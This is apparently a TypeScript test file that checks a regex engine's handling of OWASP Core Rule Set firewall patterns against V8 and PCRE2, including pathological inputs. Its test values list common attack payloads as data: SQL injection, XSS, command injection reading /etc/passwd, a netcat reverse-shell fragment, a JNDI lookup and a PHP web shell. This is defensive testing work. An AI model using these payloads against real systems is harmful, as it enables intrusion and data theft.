// CRS's patterns on ordinary, attack-like and pumped values: automata, V8 and PCRE2 agree.

import { describe, expect, it } from 'vitest';
import { dialectFlags } from '../../src/regex/dialect.ts';
import { compilePattern } from '../../src/regex/matcher.ts';
import { parsePattern } from '../../src/regex/parse.ts';
import { translate } from '../../src/regex/translate.ts';
import { CRS_RULES, crsPatterns, loadPcre2, lowerAscii, oracle } from '../regex/oracle.ts';
import { describeShared } from '../support/shared.ts';

const VALUES = [
  ...['', 'a', '\n', '\r\n', ' ', '\0', '-', 'hello world', 'john.smith@example.com', '1234567890'],
  ...[
    "O'Brien & Sons",
    'multi\nline\n',
    '2024-01-15T10:30:00Z',
    'text/html; charset=utf-8',
    '%2e%2e/',
  ],
  ...["1' OR '1'='1' -- ", 'UNION SELECT username, password FROM users', "'; DROP TABLE users;--"],
  ...[
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'javascript:alert(document.cookie)',
  ],
  ...[
    '../../../../etc/passwd',
    '; cat /etc/passwd',
    '$(id)',
    '`whoami`',
    '| nc -e /bin/sh 10.0.0.1 80',
  ],
  ...[
    '$' + '{jndi:ldap://evil/a}',
    'php://filter/convert.base64-encode',
    '<?php system($_GET["c"]); ?>',
  ],
  ...[
    'http://169.254.169.254/latest/meta-data',
    'O:8:"stdClass":0:{}',
    'rO0ABXNy',
    '() { :;}; echo',
  ],
  ...[
    '{{7*7}}',
    '__proto__[admin]=1',
    'require("child_process").exec("ls")',
    'sleep(5)#',
    '0x41/**/or/**/1',
  ],
  ...[
    'multipart/form-data; boundary=x',
    'bytes=0-1,2-3,4-5,6-7,8-9,10-11',
    'GET /x HTTP/1.1',
    'a=b&c=d;e',
  ],
];

function same(left: unknown, right: unknown): boolean {
  return JSON.stringify(left) === JSON.stringify(right);
}

/** Bits of the pattern itself make near misses. */
function nearMisses(source: string): readonly string[] {
  const words = source.match(/[A-Za-z]{3,}/g) ?? [];
  const marks = source.replace(/\\x\{?[0-9a-f]+\}?|\\[a-zA-Z]|[A-Za-z0-9]/g, '').slice(0, 30);
  return [
    words.slice(0, 6).join(' '),
    words.join('').slice(0, 60),
    words.slice(-4).join('('),
    marks,
  ];
}

const PUMPS = [
  ' ',
  '\r',
  'a',
  '0',
  '(',
  "'",
  '/',
  '.',
  ';',
  '\\',
  '<a ',
  '%0a',
  "a'",
  '$a{',
  'a=b&',
];

describeShared('CRS patterns', CRS_RULES, () => {
  const patterns = crsPatterns().map((source) => ({ source, matcher: compilePattern(source) }));

  it('are all run by automata', () => {
    expect(patterns.length).toBeGreaterThan(250);
    expect(patterns.filter(({ matcher }) => matcher.engine !== 'dfa')).toEqual([]);
  });

  it('match what V8 and PCRE2 match, with the same captures', () => {
    const pcre2 = loadPcre2();
    let compared = 0;
    let hits = 0;
    // Collected, because an assertion for each of 20,000 comparisons would take most of the time.
    const differences: unknown[] = [];
    for (const { source, matcher } of patterns) {
      const { root, groupCount } = parsePattern(source, dialectFlags('modsecurity-2', {}));
      const inV8 = translate(root, groupCount);
      if (inV8.kind === 'refused') throw new Error(`${source}: ${inV8.reason}`);
      const v8 = new RegExp(inV8.translation.source);
      const judge = oracle(pcre2, `(?s)${source}`);
      const literals = matcher.requiredLiterals()?.literals;
      for (const [at, value] of [...VALUES, ...nearMisses(source)].entries()) {
        const found = matcher.exec(value);
        const report = (by: string): void => void differences.push({ by, source, value, found });
        if (matcher.test(value) !== (found !== null)) report('decision');
        const inV8Found = v8.exec(value);
        const groups = inV8Found && inV8.translation.groups.map((group) => inV8Found[group]);
        if (!same(groups, found?.groups ?? null) || inV8Found?.index !== found?.index) report('V8');
        if (found !== null) {
          hits++;
          const folded = lowerAscii(value);
          if (literals?.some((literal) => folded.includes(literal)) === false) report('literals');
        }
        // The oracle lacks DOLLAR_ENDONLY, which only a final newline can show.
        // It is also slow, so it takes turns: each pattern meets every fourth value.
        const turn = (at + source.length) % 4 === 0 || at >= VALUES.length;
        const expected = value.endsWith('\n') || !turn ? 'limit' : judge.exec(value);
        if (expected === 'limit') continue;
        compared++;
        if (!same(expected, found)) report('PCRE2');
      }
      judge.free();
    }
    expect(differences).toEqual([]);
    expect(compared).toBeGreaterThan(patterns.length * 10);
    expect(hits).toBeGreaterThan(patterns.length);
  });

  it('finish on 128 KB of anything repeated, decisions and captures', () => {
    const differences: unknown[] = [];
    for (const [number, { source, matcher }] of patterns.entries()) {
      const own = [nearMisses(source)[0]!, nearMisses(source)[3]!, PUMPS[number % PUMPS.length]!];
      for (const pump of [' ', '\r', ...own]) {
        const times = Math.ceil((1 << 17) / Math.max(pump.length, 1));
        const subject = `${VALUES[12]}${pump.repeat(times)}\x01`;
        const found = matcher.exec(subject);
        if (matcher.test(subject) !== (found !== null)) differences.push({ source, pump });
      }
      matcher.free();
    }
    expect(differences).toEqual([]);
  });

  it('require literals for most patterns', () => {
    const useful = patterns.filter(
      ({ matcher }) => (matcher.requiredLiterals()?.score ?? 1) < 3e-3,
    );
    expect(useful.length / patterns.length).toBeGreaterThan(0.6);
  });
});

describe('nearMisses', () => {
  it('takes words of the pattern', () => {
    expect(nearMisses('(?i)union\\s+select')[0]).toBe('union select');
  });
});
